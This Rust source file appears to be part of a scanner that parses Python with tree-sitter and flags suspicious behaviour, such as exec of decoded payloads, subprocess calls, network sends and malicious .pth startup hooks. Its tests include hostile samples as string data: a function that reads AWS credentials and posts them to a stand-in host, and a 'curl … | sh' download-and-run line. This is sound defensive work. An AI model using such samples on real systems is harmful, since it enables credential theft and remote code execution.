//! Python through tree-sitter: calls, string literals and their scopes
//! become signals. Only files the pre-filter passed get here.

use super::signals::{Collector, FileSignals, Kind, Place};
use std::cell::RefCell;
use tree_sitter::{Node, Parser};

/// Deepest nesting walked; deeper code is rare and only hides signals in
/// pathological (or hostile) inputs, which the byte scan still sees.
const MAX_DEPTH: usize = 400;

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// Parses `src` and returns its signals; `None` when the grammar cannot be
/// loaded or the parser gives up.
pub fn analyze(src: &[u8]) -> Option<FileSignals> {
    analyze_nested(src, 0)
}

/// Decoded payloads are parsed with a fresh parser (the thread's is busy).
fn analyze_nested(src: &[u8], depth: u8) -> Option<FileSignals> {
    if depth > 0 {
        let mut p = Parser::new();
        p.set_language(&tree_sitter_python::LANGUAGE.into()).ok()?;
        return walk_tree(&mut p, src, depth);
    }
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut p = Parser::new();
            p.set_language(&tree_sitter_python::LANGUAGE.into()).ok()?;
            *slot = Some(p);
        }
        let parser = slot.as_mut()?;
        walk_tree(parser, src, depth)
    })
}

fn walk_tree(parser: &mut Parser, src: &[u8], depth: u8) -> Option<FileSignals> {
    {
        let tree = parser.parse(src, None)?;
        let mut w = Walker {
            src,
            depth,
            c: Collector::new(src),
            site_packages: memchr::memmem::find(src, b"site-packages").is_some()
                || memchr::memmem::find(src, b"getsitepackages").is_some()
                || memchr::memmem::find(src, b"purelib").is_some(),
        };
        let root = Place {
            row: 0,
            col: 0,
            scope: 0,
            top_level: true,
        };
        w.visit(tree.root_node(), root, 0);
        Some(w.c.finish())
    }
}

/// Node kinds a benign `.pth` hook is made of: imports, a call on an
/// imported module or `__import__('name')`, environment reads and boolean
/// glue. setuptools' distutils-precedence, editable-install finders,
/// virtualenv's `_virtualenv` and coverage's env-gated hook all fit; a
/// payload (decoding, exec, files, network) cannot.
const HOOK_KINDS: &[&str] = &[
    "module",
    "import_statement",
    "import_from_statement",
    "dotted_name",
    "aliased_import",
    "identifier",
    "expression_statement",
    "call",
    "attribute",
    "argument_list",
    "string",
    "string_start",
    "string_content",
    "string_end",
    "assignment",
    "boolean_operator",
    "comparison_operator",
    "not_operator",
    "and",
    "or",
    "not",
    "==",
    "!=",
    "=",
    ";",
    ",",
    ".",
    "(",
    ")",
    "import",
    "from",
    "as",
    "integer",
    "true",
    "false",
    "none",
    "True",
    "False",
    "None",
    "keyword_argument",
    "subscript",
    "[",
    "]",
];

/// Whether the executable lines of a `.pth` have the shape of a benign hook.
pub fn benign_hook_shape(src: &[u8]) -> bool {
    PARSER
        .with(|cell| {
            let mut slot = cell.borrow_mut();
            if slot.is_none() {
                let mut p = Parser::new();
                p.set_language(&tree_sitter_python::LANGUAGE.into()).ok()?;
                *slot = Some(p);
            }
            let tree = slot.as_mut()?.parse(src, None)?;
            let mut stack = vec![tree.root_node()];
            while let Some(n) = stack.pop() {
                if n.is_error() || n.is_missing() || !HOOK_KINDS.contains(&n.kind()) {
                    return Some(false);
                }
                if n.kind() == "string" && n.byte_range().len() > 64 {
                    return Some(false);
                }
                if n.kind() == "call" && !benign_call(n, src) {
                    return Some(false);
                }
                let mut cur = n.walk();
                stack.extend(n.children(&mut cur));
            }
            Some(true)
        })
        .unwrap_or(false)
}

/// Calls a hook may make: `module.func(...)`, `__import__('m').func(...)`,
/// `os.environ.get(...)`, `os.getenv(...)`, `sys.path.insert/append(...)`.
fn benign_call(n: Node, src: &[u8]) -> bool {
    let callee = n
        .child_by_field_name("function")
        .and_then(|f| f.utf8_text(src).ok())
        .unwrap_or("");
    let callee = normalize(callee);
    if callee.contains("exec")
        || callee.contains("eval")
        || callee.contains("system")
        || callee.contains("open")
    {
        return false;
    }
    callee == "__import__"
        || callee.starts_with("os.environ.")
        || callee == "os.getenv"
        || callee.starts_with("sys.path.")
        || callee.matches('.').count() == 1
}

struct Walker<'a> {
    src: &'a [u8],
    /// Nesting of decoded payloads (0 = the file itself).
    depth: u8,
    c: Collector<'a>,
    site_packages: bool,
}

impl<'a> Walker<'a> {
    fn text(&self, n: Node) -> &'a str {
        n.utf8_text(self.src).unwrap_or("")
    }

    fn visit(&mut self, n: Node, mut at: Place, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        at.row = n.start_position().row;
        at.col = n.start_position().column;
        match n.kind() {
            "function_definition" => {
                at.scope = self.c.scope();
                at.top_level = false;
                if let Some(name) = n.child_by_field_name("name") {
                    let name = self.text(name);
                    self.c.define(name, at.scope);
                }
            }
            "expression_statement"
                if n.named_child_count() == 1
                    && n.named_child(0).is_some_and(|c| c.kind() == "string") =>
            {
                // A docstring documents; it does nothing.
                return;
            }
            "if_statement" if self.is_main_guard(n) => at.top_level = false,
            "call" => self.call(n, at),
            "string" => {
                let t = self.text(n);
                self.c.string(t, at);
                if self.site_packages && t.trim_end_matches(['"', '\'']).ends_with(".pth") {
                    self.c.add(Kind::StartupWrite, ".pth file", at);
                }
                // Literals hold no further code.
                return;
            }
            "subscript" => self.subscript(n, at),
            _ => {}
        }
        let mut cur = n.walk();
        for child in n.children(&mut cur) {
            self.visit(child, at, depth + 1);
        }
    }

    /// `if __name__ == "__main__":` runs only as a script, not on import.
    fn is_main_guard(&self, n: Node) -> bool {
        n.child_by_field_name("condition")
            .map(|c| self.text(c))
            .is_some_and(|t| t.contains("__name__") && t.contains("__main__"))
    }

    fn subscript(&mut self, n: Node, at: Place) {
        let value = n
            .child_by_field_name("value")
            .map(|v| self.text(v))
            .unwrap_or("");
        if matches!(
            value,
            "__builtins__" | "globals()" | "vars(__builtins__)" | "__builtins__.__dict__"
        ) {
            let idx = n.child_by_field_name("subscript").map(|v| v.kind());
            if idx != Some("string") || value == "__builtins__" {
                self.c.add(Kind::DynamicBuiltin, "builtins by name", at);
            }
        }
    }

    fn call(&mut self, n: Node, at: Place) {
        let Some(func) = n.child_by_field_name("function") else {
            return;
        };
        let callee = normalize(self.text(func));
        let args_node = n.child_by_field_name("arguments");
        let args = args_node.map(|a| self.text(a)).unwrap_or("");
        let (base, name) = match callee.rsplit_once('.') {
            Some((b, n)) => (b, n),
            None => ("", callee.as_str()),
        };
        if base.is_empty() || base == "self" {
            self.c.called(name, at);
        }
        for (kind, detail) in classify_call(base, name, args) {
            self.c.add(kind, detail, at);
        }
        if matches!(name, "exec" | "eval" | "compile")
            && (base.is_empty() || base.ends_with("builtins"))
        {
            let literal = args_node
                .and_then(|a| a.named_child(0))
                .is_some_and(|a| a.kind() == "string");
            if has_decode(args) {
                self.c.add(Kind::ExecDecoded, decode_name(args), at);
                self.payload(args, at);
            } else if !literal {
                self.c.add(Kind::Exec, "exec/eval", at);
            }
        }
        if callee.starts_with("getattr(") && callee.contains("builtins") {
            // `getattr(__builtins__, "ex" + "ec")(payload)`: a hidden exec.
            self.c.add(Kind::Exec, "builtin called by name", at);
        }
        if name == "getattr" && (args.contains("__builtins__") || args.contains("builtins")) {
            self.c.add(Kind::DynamicBuiltin, "getattr(builtins)", at);
        }
    }
}

impl Walker<'_> {
    /// The payload of `exec(b64decode("…"))`, decoded and analysed in turn,
    /// its signals placed on the exec line: what the hidden code does.
    fn payload(&mut self, args: &str, at: Place) {
        if self.depth >= 2 {
            return;
        }
        let Some(inner) = super::signals::decode_base64_literal(args) else {
            return;
        };
        let Some(sub) = analyze_nested(&inner, self.depth + 1) else {
            return;
        };
        for s in sub.signals {
            self.c.add(s.kind, s.detail, at);
        }
    }
}

/// `__import__('os').system` → `os.system`; whitespace removed.
fn normalize(callee: &str) -> String {
    let mut s: String = callee.chars().filter(|c| !c.is_whitespace()).collect();
    while let Some(i) = s.find("__import__(") {
        let rest = &s[i + "__import__(".len()..];
        let Some(end) = rest.find(')') else { break };
        let module = rest[..end].trim_matches(['"', '\'']).to_string();
        s = format!("{}{}{}", &s[..i], module, &rest[end + 1..]);
    }
    s
}

const DECODERS: &[(&str, &str)] = &[
    ("b64decode", "base64"),
    ("b32decode", "base32"),
    ("b85decode", "base85"),
    ("a85decode", "base85"),
    ("decodebytes", "base64"),
    ("a2b_base64", "base64"),
    ("unhexlify", "hex"),
    ("a2b_hex", "hex"),
    ("fromhex", "hex"),
    ("decompress", "zlib"),
    ("marshal.loads", "marshal"),
    ("rot13", "rot13"),
    ("rot_13", "rot13"),
    ("chr(", "chr() codes"),
];

fn has_decode(args: &str) -> bool {
    DECODERS.iter().any(|(p, _)| args.contains(p))
}

fn decode_name(args: &str) -> &'static str {
    DECODERS
        .iter()
        .find(|(p, _)| args.contains(p))
        .map_or("decoded data", |(_, d)| d)
}

const HTTP_LIBS: &[&str] = &[
    "requests", "httpx", "urllib3", "aiohttp", "session", "client",
];

/// Signals of one call, from its callee (`base.name`) and argument text.
fn classify_call(base: &str, name: &str, args: &str) -> Vec<(Kind, &'static str)> {
    let mut v = Vec::new();
    let base_l = base.to_ascii_lowercase();
    let http_base = HTTP_LIBS.iter().any(|l| base_l.ends_with(l));
    match name {
        "b64decode" | "b32decode" | "b85decode" | "a85decode" | "urlsafe_b64decode"
        | "decodebytes" | "a2b_base64" => v.push((Kind::Decode, "base64")),
        "unhexlify" | "a2b_hex" | "fromhex" => v.push((Kind::Decode, "hex")),
        "decompress"
            if ["zlib", "gzip", "lzma", "bz2"]
                .iter()
                .any(|m| base.ends_with(m)) =>
        {
            v.push((Kind::Decode, "zlib"))
        }
        "loads" if base.ends_with("marshal") => v.push((Kind::Decode, "marshal")),
        "decode" if base.ends_with("codecs") && (args.contains("rot") || args.contains("hex")) => {
            v.push((Kind::Decode, "codecs"))
        }
        "join" if args.contains("chr(") => v.push((Kind::Decode, "chr() codes")),
        "run" | "call" | "Popen" | "check_output" | "check_call" | "getoutput"
        | "getstatusoutput"
            if base.ends_with("subprocess") =>
        {
            v.push((Kind::Subprocess, "subprocess"))
        }
        "Popen" | "check_output" | "check_call" if base.is_empty() => {
            v.push((Kind::Subprocess, "subprocess"))
        }
        "system" | "popen" | "execv" | "execve" | "execvp" | "execl" | "execlp" | "spawnv"
        | "spawnl" | "posix_spawn"
            if base == "os" =>
        {
            v.push((Kind::Subprocess, "os.system"))
        }
        "spawn" if base == "pty" => v.push((Kind::Subprocess, "pty.spawn")),
        "create_subprocess_shell" | "create_subprocess_exec" => {
            v.push((Kind::Subprocess, "asyncio subprocess"))
        }
        "urlopen" => {
            v.push((Kind::Network, "urllib"));
            if args.contains("data=") || args.contains(',') {
                v.push((Kind::NetworkSend, "urlopen with data"));
            }
        }
        "Request" if base.ends_with("request") => {
            v.push((Kind::Network, "urllib"));
            if args.contains("data=") || args.contains("POST") {
                v.push((Kind::NetworkSend, "urllib POST"));
            }
        }
        "urlretrieve" => v.push((Kind::Download, "urlretrieve")),
        "post" | "put" | "patch" if http_base => v.push((Kind::NetworkSend, "HTTP POST/PUT")),
        "get" | "request" | "Session" | "Client" | "AsyncClient" | "PoolManager"
        | "ClientSession"
            if ["requests", "httpx", "urllib3", "aiohttp"].contains(&base) =>
        {
            v.push((Kind::Network, "HTTP client"));
            if args.contains("\"POST\"") || args.contains("'POST'") {
                v.push((Kind::NetworkSend, "HTTP POST/PUT"));
            }
        }
        "HTTPConnection" | "HTTPSConnection" => v.push((Kind::Network, "http.client")),
        "socket" | "create_connection" if base.ends_with("socket") => {
            v.push((Kind::Network, "raw socket"))
        }
        "sendall" | "sendto" => v.push((Kind::NetworkSend, "socket send")),
        "gethostbyname" | "getaddrinfo" | "resolve" | "query"
            if base.ends_with("socket") || base.contains("resolver") =>
        {
            v.push((Kind::Network, "DNS"));
            if args.contains('+')
                || args.contains("f\"")
                || args.contains("f'")
                || args.contains("format")
            {
                v.push((Kind::NetworkSend, "DNS lookup of built-up name"));
            }
        }
        "open" if base.is_empty() || base == "io" || base == "builtins" => {
            v.push(open_mode(args));
        }
        "read_text" | "read_bytes" => v.push((Kind::FileRead, "read")),
        "write_text" | "write_bytes" => v.push((Kind::FileWrite, "write")),
        "copy" | "copyfile" | "copy2" | "move" if base.ends_with("shutil") => {
            v.push((Kind::FileWrite, "copy"))
        }
        "chmod" => v.push((Kind::Chmod, "chmod")),
        "dumps" | "str" | "repr" if args.trim_matches(['(', ')']) == "os.environ" => {
            v.push((Kind::EnvDump, "whole environment"))
        }
        "getenv" | "get"
            if (base.is_empty() || base == "os" || base.ends_with("environ"))
                && args.split(['"', '\'']).any(super::signals::is_secret_var) =>
        {
            v.push((Kind::SecretEnv, "secret variable"))
        }
        _ => {}
    }
    if name.starts_with("create_namespaced")
        && (base.contains("kubernetes") || base.ends_with("V1Api") || base.ends_with("api"))
    {
        v.push((Kind::Kubernetes, "creates workloads"));
    }
    let sends = v.iter().any(|(k, _)| *k == Kind::NetworkSend);
    if sends && whole_environ(args) {
        v.push((Kind::EnvDump, "whole environment"));
    }
    if name == "connect" && base.ends_with("sqlite3") {
        v.push((Kind::FileRead, "sqlite database"));
    }
    if matches!(name, "dumps" | "str")
        && args.contains("os.environ")
        && !args.contains("os.environ.get")
    {
        v.push((Kind::EnvDump, "whole environment"));
    }
    v
}

/// `os.environ` passed whole (not `os.environ.get(…)` or `os.environ[…]`).
fn whole_environ(args: &str) -> bool {
    args.match_indices("os.environ").any(|(i, m)| {
        let next = args[i + m.len()..].chars().next();
        !matches!(next, Some('.') | Some('['))
    })
}

/// `open(path)` reads; `open(path, "w")` writes.
fn open_mode(args: &str) -> (Kind, &'static str) {
    let writes = args.split(',').skip(1).any(|a| {
        let a = a.trim().trim_start_matches("mode=");
        (a.starts_with('"') || a.starts_with('\''))
            && a.trim_matches(['"', '\'', ')', ' '])
                .chars()
                .any(|c| matches!(c, 'w' | 'a' | 'x'))
    });
    if writes {
        (Kind::FileWrite, "open for writing")
    } else {
        (Kind::FileRead, "open")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<(Kind, bool)> {
        analyze(src.as_bytes())
            .unwrap()
            .signals
            .iter()
            .map(|s| (s.kind, s.top_level))
            .collect()
    }

    #[test]
    fn exec_of_decoded_data() {
        let k = kinds("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n");
        assert!(k.contains(&(Kind::ExecDecoded, true)), "{k:?}");
        assert!(k.contains(&(Kind::Decode, true)));
    }

    #[test]
    fn scopes_and_main_guard() {
        let k = kinds(
            "import subprocess\ndef f():\n    subprocess.run(['x'])\nif __name__ == '__main__':\n    subprocess.run(['y'])\n",
        );
        assert!(
            k.iter()
                .all(|(kind, top)| *kind != Kind::Subprocess || !top),
            "{k:?}"
        );
        let k = kinds("__import__('os').system('id')\n");
        assert!(k.contains(&(Kind::Subprocess, true)), "{k:?}");
    }

    #[test]
    fn credentials_and_sends() {
        let src = "import os, requests\ndef steal():\n    p = os.path.expanduser('~/.aws/credentials')\n    d = open(p).read()\n    requests.post('https://x.invalid', data=d)\n";
        let s = analyze(src.as_bytes()).unwrap();
        assert!(s.together(&[&[Kind::CredentialFile], &[Kind::NetworkSend]]));
        assert!(s.has(Kind::FileRead));
    }

    #[test]
    fn hook_shapes() {
        let distutils = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ";
        assert!(benign_hook_shape(distutils));
        assert!(benign_hook_shape(b"import _virtualenv"));
        assert!(benign_hook_shape(
            b"import __editable___x_finder; __editable___x_finder.install()"
        ));
        assert!(benign_hook_shape(b"import os; os.environ.get('COVERAGE_PROCESS_START') and __import__('coverage').process_startup()"));
        assert!(!benign_hook_shape(
            b"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))"
        ));
        assert!(!benign_hook_shape(
            b"import os; os.system('curl x.invalid | sh')"
        ));
    }

    #[test]
    fn literal_exec_is_not_dynamic() {
        let k = kinds("exec('x = 1')\n");
        assert!(!k.iter().any(|(kind, _)| *kind == Kind::Exec), "{k:?}");
    }
}
